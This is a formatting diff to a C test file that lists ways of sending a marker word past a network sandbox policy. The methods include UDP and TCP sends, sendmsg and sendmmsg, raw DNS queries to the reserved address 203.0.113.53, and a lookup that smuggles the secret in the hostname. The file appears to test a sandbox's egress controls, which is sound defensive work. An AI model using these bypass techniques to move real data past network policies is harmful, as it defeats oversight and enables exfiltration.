@@ -1,4 +1,5 @@
-// Ways out to an address that the policy does not name. Each hands over a word that the listener has to receive.
+// Ways out to an address that the policy does not name. Each hands over a word that the listener has to
+// receive.
 #include "attack.h"
 
 #include <arpa/inet.h>
@@ -23,12 +24,14 @@ static struct sockaddr_in target(void) {
 }
 
 static void hand_over(int socket) {
-  if (send(socket, WORD, sizeof WORD - 1, 0) < 0) say("send: %s\n", strerror(errno));
+  if (send(socket, WORD, sizeof WORD - 1, 0) < 0)
+    say("send: %s\n", strerror(errno));
   close(socket);
 }
 
 static void after_connecting(int socket, long result) {
-  if (result == 0) hand_over(socket);
+  if (result == 0)
+    hand_over(socket);
   else {
     say("connect: %ld %s\n", result, strerror(errno));
     close(socket);
@@ -55,7 +58,8 @@ ATTACK(network_name) {
 
 ATTACK(network_older_resolver) {
   struct hostent *host = gethostbyname(NAME);
-  if (host == NULL) return;
+  if (host == NULL)
+    return;
   struct sockaddr_in address = target();
   memcpy(&address.sin_addr, host->h_addr_list[0], 4);
   int socket_ = socket(AF_INET, SOCK_STREAM, 0);
@@ -79,7 +83,8 @@ ATTACK(network_allowed_host_other_port) {
 ATTACK(network_datagram) {
   struct sockaddr_in address = target();
   int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
-  if (sendto(socket_, WORD, sizeof WORD - 1, 0, (struct sockaddr *)&address, sizeof address) < 0) say("%s\n", strerror(errno));
+  if (sendto(socket_, WORD, sizeof WORD - 1, 0, (struct sockaddr *)&address, sizeof address) < 0)
+    say("%s\n", strerror(errno));
   close(socket_);
 }
 
@@ -92,7 +97,8 @@ ATTACK(network_connected_datagram) {
 static struct msghdr message(struct sockaddr_in *address, struct iovec *part) {
   part->iov_base = WORD;
   part->iov_len = sizeof WORD - 1;
-  return (struct msghdr){.msg_name = address, .msg_namelen = sizeof *address, .msg_iov = part, .msg_iovlen = 1};
+  return (struct msghdr){
+      .msg_name = address, .msg_namelen = sizeof *address, .msg_iov = part, .msg_iovlen = 1};
 }
 
 ATTACK(network_message) {
@@ -100,7 +106,8 @@ ATTACK(network_message) {
   struct iovec part;
   struct msghdr header = message(&address, &part);
   int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
-  if (sendmsg(socket_, &header, 0) < 0) say("%s\n", strerror(errno));
+  if (sendmsg(socket_, &header, 0) < 0)
+    say("%s\n", strerror(errno));
   close(socket_);
 }
 
@@ -109,7 +116,8 @@ ATTACK(network_many_messages) {
   struct iovec part;
   struct mmsghdr vector[1] = {{.msg_hdr = message(&address, &part)}};
   int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
-  if (sendmmsg(socket_, vector, 1, 0) < 0) say("%s\n", strerror(errno));
+  if (sendmmsg(socket_, vector, 1, 0) < 0)
+    say("%s\n", strerror(errno));
   close(socket_);
 }
 
@@ -175,7 +183,8 @@ ATTACK(network_own_question) {
   address.sin_port = htons(53);
   inet_pton(AF_INET, "203.0.113.53", &address.sin_addr);
   int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
-  if (sendto(socket_, packet, length, 0, (struct sockaddr *)&address, sizeof address) < 0) say("%s\n", strerror(errno));
+  if (sendto(socket_, packet, length, 0, (struct sockaddr *)&address, sizeof address) < 0)
+    say("%s\n", strerror(errno));
   close(socket_);
 }
 
@@ -187,13 +196,16 @@ ATTACK(network_own_question_stream) {
   address.sin_port = htons(53);
   inet_pton(AF_INET, "203.0.113.53", &address.sin_addr);
   int socket_ = socket(AF_INET, SOCK_STREAM, 0);
-  if (connect(socket_, (struct sockaddr *)&address, sizeof address) != 0) say("%s\n", strerror(errno));
-  else if (write(socket_, packet, length + 2) < 0) say("%s\n", strerror(errno));
+  if (connect(socket_, (struct sockaddr *)&address, sizeof address) != 0)
+    say("%s\n", strerror(errno));
+  else if (write(socket_, packet, length + 2) < 0)
+    say("%s\n", strerror(errno));
   close(socket_);
 }
 
 // libc asks the resolver: the name alone carries the secret out, whatever becomes of the answer.
 ATTACK(network_name_as_message) {
   struct addrinfo *found = NULL;
-  if (getaddrinfo(WORD "." NAME, NULL, NULL, &found) == 0) freeaddrinfo(found);
+  if (getaddrinfo(WORD "." NAME, NULL, NULL, &found) == 0)
+    freeaddrinfo(found);
 }
